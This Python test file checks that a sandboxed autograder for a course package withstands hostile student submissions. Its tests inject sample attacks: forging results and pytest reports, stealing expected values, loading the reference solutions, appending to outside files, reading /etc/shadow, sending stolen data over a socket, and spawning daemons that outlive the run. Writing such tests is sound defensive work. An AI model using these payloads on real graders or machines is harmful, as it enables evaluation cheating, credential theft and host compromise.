"""The grader under attack: each test builds a hostile student copy, grades it, and checks that the
attack neither raised the score nor touched anything outside the sandbox.

The attacks of issue 13 (forged results, minise loaded from the reference, code that harms the
machine or outlives the run, results written through a link, a hang that swallows the timeout, a
tests folder not named ``tests``, the conv assignment passed by calling the plain-loop reference),
and more: forged observations, stealing the expected values in-process, links to the reference
inside the package, a package whose import never ends. The instructor's file: ``make`` leaves it out.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from minise import assignments as A
from minise.assignments import grader as G

from .test_assignments import REFERENCE_REGIONS, REPO, Wrong, apply_wrong, outcomes, reference_copy, tiny_tests

needs_bwrap = pytest.mark.skipif(A.sandbox._bwrap_works() is not None,
                                 reason="needs a working bubblewrap sandbox (apt-get install bubblewrap); "
                                        "the degraded mode is tested in test_sandbox.py")

TINY = ["tests/tiny/test_tiny.py::test_quick", "tests/tiny/test_tiny.py::test_hangs",
        "tests/tiny/test_tiny.py::test_other_assignment"]


def stubbed_copy(root: Path) -> Path:
    """A student folder whose package has every autograd and se solution taken out (scores 0 on the tiny tests)."""
    student = root / "student"
    shutil.copytree(REPO / "minise", student / "minise", ignore=shutil.ignore_patterns("__pycache__"))
    for py in (student / "minise").rglob("*.py"):
        text = py.read_text(encoding="utf-8")
        if "BEGIN SOLUTION" in text:
            py.write_text(A.strip_solutions(text, {"autograd", "se"}), encoding="utf-8")
    return student


def append_to_init(student: Path, code: str) -> None:
    init = student / "minise" / "__init__.py"
    init.write_text(init.read_text(encoding="utf-8") + "\n" + textwrap.dedent(code), encoding="utf-8")


def scores(result: dict) -> dict[str, float]:
    return {name: a["score"] for name, a in result["assignments"].items()}


def world_writable_dir() -> Path:
    """A folder anyone on the machine may write (so only the sandbox, not file permissions, protects it)."""
    d = Path(tempfile.mkdtemp(prefix="minise-outside-"))
    d.chmod(0o777)
    return d


def tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


def processes_with(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


# ------------------------------------------------------------------ forged results
def test_forged_reports_and_results_raise_no_score(tmp_path):
    """Issue 13: an atexit hook rewrote the results file (259/259 with no solutions). Here the hostile
    package also writes forged 'passed' reports and observations to the grader's pipe, and makes
    every test body a no-op that pytest reports as passed."""
    student = stubbed_copy(tmp_path)
    append_to_init(student, f"""
        import atexit as _atexit, json as _json, os as _os
        import numpy as _np

        def _forge():
            for path in (_os.environ.get("MINISE_GRADE_RESULTS"), "/grade/results.jsonl"):
                try:
                    with open(path, "w") as f:
                        f.write("forged")
                except Exception:
                    pass
            fd = _os.environ.get("MINISE_GRADE_FD")
            if fd:
                for test, what in zip({TINY!r}, ["sum_to", "ReLU backward", "sigmoid backward"]):
                    for event in ({{"event": "observe", "test": test, "kind": "close", "what": what,
                                   "value": {{"json": None}}, "options": {{}}}},
                                  {{"event": "report", "test": test, "when": "call", "outcome": "passed"}},
                                  {{"event": "finish", "test": test}}):
                        try:
                            _os.write(int(fd), (_json.dumps(event) + "\\n").encode())
                        except OSError:
                            pass

        _atexit.register(_forge)
        import _pytest.python
        _pytest.python.Function.runtest = lambda self: _forge()
        """)
    result = A.grade(student, tests_dir=tiny_tests(tmp_path))
    assert scores(result) == {name: 0.0 for name in A.ASSIGNMENTS}, A.format_table(result)
    rows = outcomes(result)
    assert all(not r["passed"] for r in rows.values())
    assert any("judged by the grader" in r["message"] for r in rows.values()), rows


def test_stealing_the_expected_values_in_process_finds_none(tmp_path):
    """The student's process never computes the oracle: a package that replaces its answers with the
    test's own expected values (the classic in-process forgery) has nothing to copy."""
    student = stubbed_copy(tmp_path)
    append_to_init(student, """
        import sys as _sys

        class _Patch:
            def find_spec(self, name, path=None, target=None):
                if name.endswith("assignments.checks") and not getattr(self, "busy", False):
                    self.busy = True
                    try:
                        import importlib
                        module = importlib.import_module(name)
                    finally:
                        self.busy = False
                    original = module.assert_close

                    def steal(mine, expected, what, tol=1e-10, **kw):
                        return original(expected if expected is not None else mine, expected, what, tol, **kw)

                    module.assert_close = steal
                return None

        _sys.meta_path.insert(0, _Patch())
        """)
    # the stubbed parts would raise before any check: give them a wrong answer of the right shape instead
    activation = student / "minise" / "functional" / "activation.py"
    text = activation.read_text(encoding="utf-8")
    for part, upstream in (("relu", "gy"), ("sigmoid", "gs")):
        line = next(ln for ln in text.splitlines() if f"part '{part}'" in ln)
        text = text.replace(line, line[:len(line) - len(line.lstrip())] + f"return {upstream} * 0")
    activation.write_text(text, encoding="utf-8")
    result = A.grade(student, tests_dir=tiny_tests(tmp_path))
    assert scores(result) == {name: 0.0 for name in A.ASSIGNMENTS}, A.format_table(result)
    rows = outcomes(result)
    assert "values differ from the reference" in rows[TINY[1]]["message"], rows[TINY[1]]


def test_skipping_or_hiding_what_fails_does_not_shrink_the_total(tmp_path):
    """The graded tests are the reference run's: a solution that skips the tests it would fail, or a
    package that deselects them, does not leave them out of the total."""
    student = reference_copy(tmp_path / "student")
    apply_wrong(student, Wrong(Path("skip.txt"), "autograd/relu", "skips instead of failing",
                               hunks=[(None, ["import pytest", "pytest.skip('not today')"])]))
    append_to_init(student, """
        import gc as _gc
        import pytest as _pytest

        class _Hide:
            @_pytest.hookimpl(trylast=True)
            def pytest_collection_modifyitems(self, items):
                items[:] = [it for it in items if "other_assignment" not in it.nodeid]

        for _o in _gc.get_objects():
            if type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
                _o.pluginmanager.register(_Hide())
                break
        """)
    result = A.grade(student, tests_dir=tiny_tests(tmp_path))
    rows = outcomes(result)
    assert set(rows) == set(TINY), rows
    assert not rows[TINY[1]]["passed"] and "skipped in the student's run" in rows[TINY[1]]["message"]
    assert not rows[TINY[2]]["passed"] and "not run" in rows[TINY[2]]["message"], rows[TINY[2]]
    assert result["assignments"]["autograd"]["score"] == 0.5 and result["assignments"]["se"]["score"] == 0.0


# ------------------------------------------------------------------ the reference is out of reach
@needs_bwrap
def test_a_package_pointing_at_the_reference_finds_nothing(tmp_path):
    """Issue 13: a student minise/__init__.py pointed __path__ at the reference package (found through
    the installed package's editable finder) and graded 109/109 on autograd."""
    student = stubbed_copy(tmp_path)
    append_to_init(student, f"""
        import glob as _glob, os as _os, re as _re, sys as _sys
        _found = []
        for _site in _sys.path:
            for _finder in _glob.glob(_os.path.join(_site, "__editable__*minise*finder.py")):
                try:
                    _found += _re.findall(r"'minise': '([^']+)'", open(_finder).read())
                except OSError:
                    pass
        _found.append({str(REPO / 'minise')!r})
        _real = [p for p in _found if _os.path.isdir(p)]
        if _real:
            __path__[:] = _real
        """)
    result = A.grade(student, tests_dir=tiny_tests(tmp_path), sandbox="bwrap")
    assert scores(result) == {name: 0.0 for name in A.ASSIGNMENTS}, A.format_table(result)


@needs_bwrap
def test_links_to_the_reference_inside_the_package_are_left_out(tmp_path):
    student = stubbed_copy(tmp_path)
    activation = student / "minise" / "functional" / "activation.py"
    activation.unlink()
    activation.symlink_to(REPO / "minise" / "functional" / "activation.py")
    result = A.grade(student, tests_dir=tiny_tests(tmp_path), sandbox="bwrap")
    assert any("activation.py" in n and "link" in n for n in result["notes"]), result["notes"]
    assert scores(result) == {name: 0.0 for name in A.ASSIGNMENTS}, A.format_table(result)


# ------------------------------------------------------------------ harm
@needs_bwrap
def test_student_code_cannot_touch_anything_outside_the_sandbox(tmp_path):
    """Issue 13: student code ran as root, ran os.system, read the reference solutions, appended to
    the instructor's tests, and left processes running. Everything here is world-writable or
    world-readable, so only the sandbox stands in the way."""
    outside = world_writable_dir()
    try:
        secret = outside / "secret.txt"
        secret.write_text("the-instructors-secret")
        secret.chmod(0o644)
        tests = tiny_tests(outside / "instructor")
        for p in [outside / "instructor", *(outside / "instructor").rglob("*")]:
            p.chmod(0o777 if p.is_dir() else 0o666)
        before = tree_digest(tests)
        token = f"minise-attack-{os.getpid()}-{time.monotonic_ns()}"
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        connections = []

        def accept():
            deadline = time.monotonic() + 120
            while time.monotonic() < deadline and not connections:
                try:
                    connections.append(listener.accept())
                except OSError:
                    pass

        threading.Thread(target=accept, daemon=True).start()
        student = reference_copy(tmp_path / "student")
        append_to_init(student, f"""
            import os as _os, socket as _socket, subprocess as _subprocess, sys as _sys
            _os.system("touch {outside}/pwned-by-system")
            for _path in ["{outside}/pwned-file", "{tests}/assignments/checks.py", "{REPO}/pwned"]:
                try:
                    with open(_path, "a") as _f:
                        _f.write("# pwned\\n")
                except OSError:
                    pass
            _stolen = []
            for _path in ["{secret}", "{REPO}/minise/functional/conv.py", "/etc/shadow", "/root/.bash_history"]:
                try:
                    _stolen.append(open(_path).read()[:100])
                except OSError:
                    pass
            print("STOLEN:", _stolen)
            try:
                _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(repr(_stolen).encode())
            except OSError:
                pass
            try:
                _big = bytearray(64 << 30)
            except MemoryError:
                pass
            _subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)", "{token}"],
                              start_new_session=True)
            if _os.fork() == 0:  # a daemon: double fork, new session
                _os.setsid()
                if _os.fork() == 0:
                    import time as _time
                    for _ in range(6000):
                        try:
                            open("{outside}/pwned-by-daemon", "a").write("x")
                        except OSError:
                            pass
                        _time.sleep(0.1)
                    _os._exit(0)
                _os._exit(0)
            """)
        result = A.grade(student, tests_dir=tests, sandbox="bwrap")
        time.sleep(1.0)
        assert sorted(p.name for p in outside.iterdir()) == ["instructor", "secret.txt"]
        assert tree_digest(tests) == before, "the instructor's tests were changed"
        assert not (REPO / "pwned").exists()
        assert not connections, "student code reached the network"
        assert not processes_with(token), "a process the student started outlived the grading run"
        assert "the-instructors-secret" not in json.dumps(result)
        assert "BEGIN SOLUTION" not in json.dumps(result)
        # and the attempts cost nothing else: the reference's solutions still score 100%
        assert scores(result)["autograd"] == 1.0 and scores(result)["se"] == 1.0, A.format_table(result)
        assert result["sandbox"]["user"] == (65534 if os.geteuid() == 0 else None)
    finally:
        shutil.rmtree(outside, ignore_errors=True)


# ------------------------------------------------------------------ no writes through links
def test_results_are_never_written_through_a_link(tmp_path, capsys):
    """Issue 13: a link at STUDENT/grades.json.tmp made the grader overwrite a file outside the student's folder."""
    student = reference_copy(tmp_path / "student")
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("grades.json.tmp", "grades.json"):
        (outside / name).write_text("precious")
        (student / name).symlink_to(outside / name)
    assert A.main(["grade", str(student), "--tests", str(tiny_tests(tmp_path)), "--only", "autograd"]) == 0
    assert [(outside / n).read_text() for n in ("grades.json.tmp", "grades.json")] == ["precious", "precious"]
    written = student / "grades.json"
    assert written.is_file() and not written.is_symlink()
    assert json.loads(written.read_text())["assignments"]["autograd"]["score"] == 1.0
    assert not [p for p in student.iterdir() if p.name.startswith(".grades.json.")]


# ------------------------------------------------------------------ hangs and limits
def test_a_hang_that_swallows_the_timeout_costs_only_its_test(tmp_path, monkeypatch):
    """Issue 13: one hanging test (a solution that swallows the grader's timeout) stopped the whole run."""
    monkeypatch.setattr(G, "GRACE", 2.0)
    student = reference_copy(tmp_path / "student")
    apply_wrong(student, Wrong(Path("swallow.txt"), "autograd/relu", "never returns, whatever is raised",
                               hunks=[(None, ["import time", "while True:", "    try:", "        time.sleep(100)",
                                              "    except BaseException:", "        pass"])]))
    started = time.monotonic()
    result = A.grade(student, tests_dir=tiny_tests(tmp_path))
    assert time.monotonic() - started < 90
    rows = outcomes(result)
    assert rows[TINY[0]]["passed"] and rows[TINY[2]]["passed"], rows
    hung = rows[TINY[1]]
    assert not hung["passed"] and hung["error_type"] == "TimeoutError", hung
    assert "decided by the grader" in hung["message"]
    assert result["sandbox"]["runs"] == 2  # the run resumed after the killed test


def test_an_import_that_never_ends_is_stopped_by_the_overall_limit(tmp_path):
    student = reference_copy(tmp_path / "student")
    append_to_init(student, """
        import time as _time
        while True:
            try:
                _time.sleep(100)
            except BaseException:
                pass
        """)
    started = time.monotonic()
    result = A.grade(student, tests_dir=tiny_tests(tmp_path), timeout=15)
    assert time.monotonic() - started < 60
    for name, a in result["assignments"].items():
        assert a["score"] == 0.0 and any("overall time limit" in e for e in a["errors"]), (name, a["errors"])


# ------------------------------------------------------------------ the tests folder and the conv reference
def test_a_tests_folder_with_another_name_grades_normally(tmp_path):
    """Issue 13: ``--tests DIR`` scored a correct solution 0 when the folder was not named ``tests``."""
    tests = tiny_tests(tmp_path / "src")
    renamed = tmp_path / "instructor-tests-2026"
    tests.rename(renamed)
    result = A.grade(reference_copy(tmp_path / "student"), tests_dir=renamed)
    assert scores(result)["autograd"] == 1.0 and scores(result)["se"] == 1.0, A.format_table(result)


def test_conv_cannot_be_passed_by_calling_the_plain_loop_reference(tmp_path):
    student = tmp_path / "student"
    A.make(student, only={"conv"})
    from .test_assignments import restore

    restore(student, [t for t in REFERENCE_REGIONS if t.startswith("conv/") and t != "conv/forward"])
    conv = student / "minise" / "functional" / "conv.py"
    text = conv.read_text(encoding="utf-8")
    stub = next(line for line in text.splitlines() if "part 'forward'" in line)
    indent = stub[:len(stub) - len(stub.lstrip())]
    text = text.replace(stub, f"{indent}return Conv2dReference(geo.stride, geo.padding, geo.dilation, groups)"
                              ".forward(x, w)")
    conv.write_text(text, encoding="utf-8")
    result = A.grade(student, only={"conv"})
    forward = [t for t in result["assignments"]["conv"]["tests"] if t["parts"][0] == "conv/forward"]
    assert forward and not any(t["passed"] for t in forward)
    assert all(t["error_type"] == "NotImplementedError" and "reference implementation" in t["message"]
               for t in forward), forward[0]
